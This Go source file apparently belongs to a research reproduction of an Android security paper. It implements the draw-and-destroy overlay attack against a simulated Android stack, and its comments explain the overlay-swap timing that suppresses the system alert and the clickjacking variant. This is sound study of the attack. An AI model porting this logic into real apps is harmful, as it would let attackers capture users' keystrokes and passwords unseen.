// Package core implements the paper's primary contribution: the
// draw-and-destroy overlay attack (Section III), the draw-and-destroy
// toast attack (Section IV), and the combined password-stealing attack
// (Section V), all running against the simulated Android stack assembled
// by package sysserver.
package core

import (
	"errors"
	"fmt"
	"time"

	"repro/internal/binder"
	"repro/internal/geom"
	"repro/internal/simclock"
	"repro/internal/sysserver"
	"repro/internal/wm"
)

// OverlayAttackConfig configures a draw-and-destroy overlay attack.
type OverlayAttackConfig struct {
	// App is the malicious package (must hold SYSTEM_ALERT_WINDOW).
	App binder.ProcessID
	// D is the attacking window: the wait between overlay swaps. The
	// attacker picks D at or below the device's Λ1 upper boundary
	// (Table II) to suppress the notification alert.
	D time.Duration
	// Bounds is the overlay rectangle (e.g. the keyboard area).
	Bounds geom.Rect
	// OnTouch receives the touch events the overlays intercept.
	OnTouch wm.TouchHandler
	// NotTouchable makes the overlays pass touches through to the
	// victim beneath — the clickjacking variant of Section II-A, where
	// the overlay shows misleading content while the user unknowingly
	// operates the app below it.
	NotTouchable bool
	// AddBeforeRemove inverts the swap's call order, reproducing the
	// mistake the paper warns about (Section III-C, Step 2): addView is
	// a blocking call, so issuing it first delays the removeView long
	// enough that the new overlay shows up before the old one is
	// removed, the overlay count never reaches zero, the alert animation
	// is never reversed, and the attack fails.
	AddBeforeRemove bool
}

// OverlayAttack is the draw-and-destroy overlay attack: two UI-intercepting
// overlay views created in advance, swapped every D by a worker-thread
// timer so that the sequence of overlays stays on top of the victim while
// the notification alert's slow-in animation never renders a pixel.
type OverlayAttack struct {
	stack *sysserver.Stack
	cfg   OverlayAttackConfig

	running bool
	// addReqs holds the addView payload of each overlay handle, boxed
	// once so a swap allocates no interface value.
	addReqs [2]any
	tick    simclock.Handle
	// tickFn is the swap timer's callback, bound once so arming the timer
	// allocates nothing.
	tickFn func()
	// cur alternates between the two pre-created overlay handles.
	cur    uint64
	cycles uint64
	// firstErr records the first binder failure of the attack loop;
	// callbacks on the clock have nowhere to return errors, so the runner
	// checks Err after the run.
	firstErr error
}

// Overlay view handles; the malicious app creates both view objects in
// advance so swap timing is not perturbed by object construction.
const (
	overlayHandle1 = 1
	overlayHandle2 = 2
)

// NewOverlayAttack validates the configuration and binds the attack to a
// stack.
func NewOverlayAttack(stack *sysserver.Stack, cfg OverlayAttackConfig) (*OverlayAttack, error) {
	if stack == nil {
		return nil, errors.New("core: nil stack")
	}
	if cfg.App == "" {
		return nil, errors.New("core: empty attacker app")
	}
	if cfg.D <= 0 {
		return nil, fmt.Errorf("core: non-positive attacking window %v", cfg.D)
	}
	if cfg.Bounds.Empty() {
		return nil, fmt.Errorf("core: empty overlay bounds %v", cfg.Bounds)
	}
	a := &OverlayAttack{stack: stack, cfg: cfg, cur: overlayHandle1}
	flags := wm.FlagTransparent
	if cfg.NotTouchable {
		flags |= wm.FlagNotTouchable
	}
	for i, handle := range []uint64{overlayHandle1, overlayHandle2} {
		a.addReqs[i] = sysserver.AddViewRequest{
			Handle:  handle,
			Type:    wm.TypeApplicationOverlay,
			Bounds:  cfg.Bounds,
			Flags:   flags,
			OnTouch: cfg.OnTouch,
		}
	}
	a.tickFn = a.onTick
	return a, nil
}

// Cycles reports how many draw-and-destroy swaps have run.
func (a *OverlayAttack) Cycles() uint64 { return a.cycles }

// Err reports the first binder failure the attack loop hit (nil normally;
// non-nil only in a mis-wired assembly).
func (a *OverlayAttack) Err() error { return a.firstErr }

func (a *OverlayAttack) fail(err error) {
	if a.firstErr == nil {
		a.firstErr = err
	}
}

// Start draws the first overlay and arms the worker-thread timer
// (Section III-C, Step 1). The first timer notification only performs
// addView; every later one performs removeView then addView.
func (a *OverlayAttack) Start() error {
	if a.running {
		return errors.New("core: overlay attack already running")
	}
	a.running = true
	a.addView(a.cur)
	a.armTimer()
	return nil
}

func (a *OverlayAttack) armTimer() {
	d := a.cfg.D
	if pl := a.stack.Faults; pl != nil {
		// Scheduler preemption: the attacker's worker thread loses the
		// CPU and the swap timer fires late — the perturbation the §VI-B
		// load experiment argues the attack tolerates.
		d += pl.PreemptPause()
	}
	a.tick = a.stack.Clock.MustAfter(d, "attack/overlaySwap", a.tickFn)
}

// onTick is one timer notification: swap the overlays and re-arm.
func (a *OverlayAttack) onTick() {
	if !a.running {
		return
	}
	a.swap()
	a.armTimer()
}

// swap is Step 2: remove the displayed overlay, then add the other one.
// removeView MUST be called before addView — addView is a blocking call
// that would delay the removal and let the new overlay show up before the
// old one is removed, keeping the alert animation alive (Section III-C).
// With AddBeforeRemove set, the wrong order is used instead and the
// removeView call is issued only after the blocking addView returns.
func (a *OverlayAttack) swap() {
	prev := a.cur
	next := uint64(overlayHandle1)
	if prev == overlayHandle1 {
		next = overlayHandle2
	}
	if a.cfg.AddBeforeRemove {
		a.addView(next)
		// addView blocks the app's main thread until the window is
		// attached (Tam + Tas); only then does removeView go out.
		block := a.stack.Profile.Tam.Sample(a.stack.RNG) + a.stack.Profile.Tas.Sample(a.stack.RNG)
		a.stack.Clock.MustAfter(block, "attack/blockedRemove", func() {
			a.removeView(prev)
		})
	} else {
		a.removeView(prev)
		a.addView(next)
	}
	a.cur = next
	a.cycles++
}

func (a *OverlayAttack) addView(handle uint64) {
	if _, err := a.stack.Bus.Call(a.cfg.App, binder.SystemServer, sysserver.MethodAddView, a.addReqs[handle-overlayHandle1]); err != nil {
		a.fail(fmt.Errorf("core: addView binder call: %w", err))
	}
}

func (a *OverlayAttack) removeView(handle uint64) {
	if _, err := a.stack.Bus.Call(a.cfg.App, binder.SystemServer, sysserver.MethodRemoveView, sysserver.RemoveViewRequest{
		Handle: handle,
	}); err != nil {
		a.fail(fmt.Errorf("core: removeView binder call: %w", err))
	}
}

// Stop is Step 5: cancel the timer and remove the last displayed overlay.
func (a *OverlayAttack) Stop() {
	if !a.running {
		return
	}
	a.running = false
	a.stack.Clock.Cancel(a.tick)
	a.removeView(a.cur)
}
